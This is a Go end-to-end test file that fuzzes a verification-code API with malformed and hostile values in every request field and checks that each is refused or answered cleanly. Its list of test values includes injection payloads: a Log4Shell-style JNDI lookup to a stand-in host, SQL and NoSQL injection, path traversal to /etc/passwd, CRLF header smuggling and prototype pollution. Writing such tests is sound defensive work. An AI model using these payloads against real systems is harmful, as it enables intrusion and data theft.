package e2e

import (
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/watchword/watchword/dialect/dialecttest"
)

// hostileServer is a server under attack, with a tenant that allows everything a tenant can.
func hostileServer(t *testing.T) (*server, *vendor) {
	t.Helper()
	v := newVendor(t)
	s := serve(t, t.TempDir())
	s.apply(t, tenants(v))
	s.apply(t, `
tenants: [{id: loose, dialects: [native], purposes: [gift]}]
policies:
  - {tenant: loose, lifetime: 30m, wait: 0s, custom_codes: true, limits: [{name: many, count: 1000, per: 1s}]}
`)
	return s, v
}

const startExample = `{"to":"+8613800138000","channel":"sms","purpose":"gift","locale":"en","reference":"r-1","code":"48392011",` +
	`"code_length":8,"expires_in":60,"attempts":3,"account_rule":"none","context":{"ip":"203.0.113.7","device":"d","session":"s","user":"u"},` +
	`"values":{"order":"4711"}}`

// TestHostileRequests breaks valid requests in every way, on a real socket of the real program.
func TestHostileRequests(t *testing.T) { //nolint:paralleltest // it counts goroutines
	s, v := hostileServer(t)
	c := newCaller(s, looseKey, 1)
	id, code := sent(t, v, c, "+8613800138009")
	c.close()
	s.leaksNoGoroutine(t)
	header := http.Header{"Authorization": {"Bearer " + looseKey}, "Content-Type": {"application/json"}}
	for _, target := range []dialecttest.Target{
		{Path: "/v1/verifications", Methods: []string{http.MethodGet}, Body: startExample},
		{Path: "/v1/checks", Body: `{"to":"+8613800138000","channel":"sms","purpose":"login","code":"483920","context":{"ip":"203.0.113.7"}}`},
		{Path: "/v1/verifications/" + id + "/check", Body: `{"code":"ZZZZZZ","context":{"ip":"203.0.113.7","device":"d-1"}}`},
	} {
		target.Skip = foreign()
		if strings.Contains(target.Path, "check") {
			target.Skip = append(target.Skip, "field code CRLF") // whatever a user types as a code is a guess, and a wrong one
		}
		t.Run(strings.ReplaceAll(target.Path, id, "ID"), func(t *testing.T) {
			target.BaseURL, target.Method, target.Header = s.url, http.MethodPost, header
			target.Credentials, target.Secrets = []string{"Authorization"}, []string{looseKey, code}
			target.Shape = nativeProblem(s.url)
			dialecttest.Hostile(t, target)
		})
	}
	s.complainsOfNothing(t)
}

// foreign names the attacks that never come to the API: the first three are paths of the pages beside it, and "*" is
// answered by net/http's own mux, without a body.
func foreign() []string {
	return []string{"path: root", "path: unknown", "path: capitals", "raw path: asterisk", "wire: HTTP/2 without being asked"}
}

// evil is a JSON value that no field expects. Where it is of no type that any field has, it must be refused.
type evil struct {
	text   string
	refuse bool
}

func evils() []evil {
	long := strings.Repeat("9", 20_000)
	refused := []string{
		"true", "[]", "[[[[]]]]", `[{"a":1}]`, "1.5", "1e400", "-1", "0", "9223372036854775808", long, "NaN", "0x1F", "'x'",
		`"\ud800"`, `"a\u0000b"`, "\"\x00\"", "\"\xc0\xaf\"", "\"\xed\xa0\x80\"", "\"\xf4\x90\x80\x80\"", "\"\xff\"", "\"a\nb\"", `"` + long + `"`,
		strings.Repeat("[", 30_000) + strings.Repeat("]", 30_000), strings.Repeat(`{"a":`, 10_000) + "1" + strings.Repeat("}", 10_000),
		`{"$ne":null}`, `{"__proto__":{}}`,
	}
	passing := []string{
		"null", `""`, `" "`, `"\u202e\u200b\ufeff"`, `"' OR 1=1 --"`, `"{{code}}"`, `"${jndi:ldap://evil.example/a}"`, `"../../etc/passwd"`, `"<script>"`,
		`"\r\nBcc: evil@example.com"`, `"%00%0a"`, `"😀😀😀"`, `"１２３４５６"`, `"a@b@c"`, `"+"`, `"@"`, `"+0"`, `"+999999999999999999"`,
	}
	var all []evil
	for _, text := range refused {
		all = append(all, evil{text, true})
	}
	for _, text := range passing {
		all = append(all, evil{text, false})
	}
	return all
}

// TestEveryFieldWithEveryEvilValue puts each of some forty values into each field of each body.
func TestEveryFieldWithEveryEvilValue(t *testing.T) {
	s, v := hostileServer(t)
	c := newCaller(s, looseKey, 1)
	defer c.close()
	id, _ := sent(t, v, c, "+8613800138009")
	shape := nativeProblem(s.url)
	requests, statuses := 0, tally{}
	for path, fields := range map[string][]string{
		"/v1/verifications": {
			"to", "channel", "purpose", "locale", "reference", "code", "code_length", "expires_in", "attempts", "account_rule",
			"context", "context.ip", "context.device", "context.session", "context.user", "values", "values.order",
		},
		"/v1/verifications/" + id + "/check":  {"code", "context", "context.ip", "context.device", "context.session", "context.user"},
		"/v1/verifications/" + id + "/resend": {"context", "context.ip", "context.user"},
		"/v1/verifications/" + id + "/cancel": {"context", "context.session", "context.device"},
		"/v1/checks":                          {"to", "channel", "purpose", "code", "context", "context.ip"},
	} {
		for _, field := range fields {
			for _, e := range evils() {
				a := c.must(t, http.MethodPost, path, []byte(bodyWith(path, field, e.text)))
				requests++
				statuses[fmt.Sprint(a.status)]++
				e.judge(t, path, field, a, shape)
			}
		}
	}
	t.Logf("%d requests: %v", requests, statuses)
	s.complainsOfNothing(t)
}

func (e evil) judge(t *testing.T, path, field string, a *answer, shape func(*http.Response, []byte) error) {
	t.Helper()
	text := e.text[:min(len(e.text), 60)]
	numeric := field == "code_length" || field == "expires_in" || field == "attempts"
	object := field == "context" || field == "values"
	fits := object && strings.HasPrefix(e.text, "{") // its name is at fault, or nothing is
	if a.status < 400 && e.refuse && !fits {
		t.Errorf("%s: %s = %q is taken: %s", path, field, text, a)
	}
	if a.status < 400 && numeric && e.text != "null" {
		t.Errorf("%s: %s = %q is taken: %s", path, field, text, a)
	}
	if a.status < 400 || a.status == http.StatusTooManyRequests {
		return
	}
	if err := shape(&http.Response{StatusCode: a.status, Header: a.header}, a.body); err != nil {
		t.Errorf("%s: %s = %q: %v: %s", path, field, text, err, a)
	}
}

// bodyWith is a body that is valid but for one field.
func bodyWith(path, field, value string) string {
	base := map[string]string{}
	switch {
	case path == "/v1/verifications":
		base["to"] = `"+8613800138000"`
	case path == "/v1/checks":
		base["to"], base["code"] = `"+8613800138000"`, `"ZZZZZZ"`
	case strings.HasSuffix(path, "/check"):
		base["code"] = `"ZZZZZZ"`
	}
	outer, inner, deep := strings.Cut(field, ".")
	if deep {
		value = fmt.Sprintf("{%q:%s}", inner, value)
	}
	base[outer] = value
	var members []string
	for name, text := range base {
		members = append(members, fmt.Sprintf("%q:%s", name, text))
	}
	return "{" + strings.Join(members, ",") + "}"
}
